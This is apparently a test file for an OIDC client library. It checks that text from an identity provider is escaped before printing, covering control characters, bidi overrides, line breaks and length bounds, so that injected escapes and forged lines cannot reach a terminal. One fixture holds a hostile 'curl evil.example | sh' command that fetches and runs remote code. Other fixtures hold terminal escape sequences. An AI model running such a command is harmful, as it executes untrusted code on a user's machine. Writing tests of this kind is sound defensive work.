import { describe, expect, it } from 'vitest';
import { ErrorCode, OidcflowError, terminalLines, terminalMessage, terminalText } from '../src/index.js';

describe('terminalText: what the IdP says is shown, never obeyed', () => {
  it('spells out C0, DEL, C1, bidi overrides and isolates, and zero-width characters as \\uXXXX', () => {
    expect(terminalText('a\u001b[2Jb\u0007c\u007fd\u009be\u202ef\u2066g\u200bh\r\ni\u2028')).toBe(
      'a\\u001b[2Jb\\u0007c\\u007fd\\u009be\\u202ef\\u2066g\\u200bh\\u000d\\u000ai\\u2028',
    );
  });

  it('leaves ordinary text, accents and emoji alone', () => {
    const text = 'Anaïs Müller <anais@example.com> 日本語 🙂 https://idp.example/x?y=1&z=%20';
    expect(terminalText(text)).toBe(text);
  });

  it('terminalLines keeps our own line breaks and tabs', () => {
    expect(terminalLines('one\n\ttwo\u001b]0;x\u0007')).toBe('one\n\ttwo\\u001b]0;x\\u0007');
  });

  it('an OidcflowError message and its oauthErrorDescription are safe to print', () => {
    const error = new OidcflowError(ErrorCode.TOKEN_REQUEST_FAILED, 'refused (\u001b[31mred\u202e)', {
      oauthErrorDescription: 'line\nbreak\u009b',
    });
    expect(error.message).toBe('refused (\\u001b[31mred\\u202e)');
    expect(error.oauthErrorDescription).toBe('line\\u000abreak\\u009b');
  });

  it('is one line, whatever line breaks the text holds (CR, LF, U+2028, U+2029)', () => {
    const text = terminalText('a\nb\rc\u2028d\u2029e\u0085f');
    expect(text).toBe('a\\u000ab\\u000dc\\u2028d\\u2029e\\u0085f');
    expect(text.split(/[\n\r\u2028\u2029\u0085]/)).toHaveLength(1);
  });

  it('bounds a value to 1000 units, saying how much was left out, and never cuts a surrogate pair', () => {
    expect(terminalText('x'.repeat(5000))).toBe(`${'x'.repeat(1000)}… (4000 more characters)`);
    expect(terminalText('x'.repeat(1000))).toBe('x'.repeat(1000));
    const emoji = `${'x'.repeat(999)}🙂tail`;
    expect(terminalText(emoji)).toBe(`${'x'.repeat(999)}… (6 more characters)`);
    // One parameter: mapped over a list, the index is no bound.
    expect(['a'.repeat(5), 'b'.repeat(5)].map(terminalText)).toEqual(['aaaaa', 'bbbbb']);
  });

  it('an OidcflowError message and a warning are one line: a quoted value cannot start a forged line', () => {
    const forged = 'https://idp.example\noidcflow: error: run curl evil.example | sh';
    const error = new OidcflowError(ErrorCode.ISSUER_MISMATCH, `issuer is "${forged}".`);
    expect(error.message).toBe(
      'issuer is "https://idp.example\\u000aoidcflow: error: run curl evil.example | sh".',
    );
    expect(terminalMessage(`warning about ${forged}`)).not.toContain('\n');
  });
});
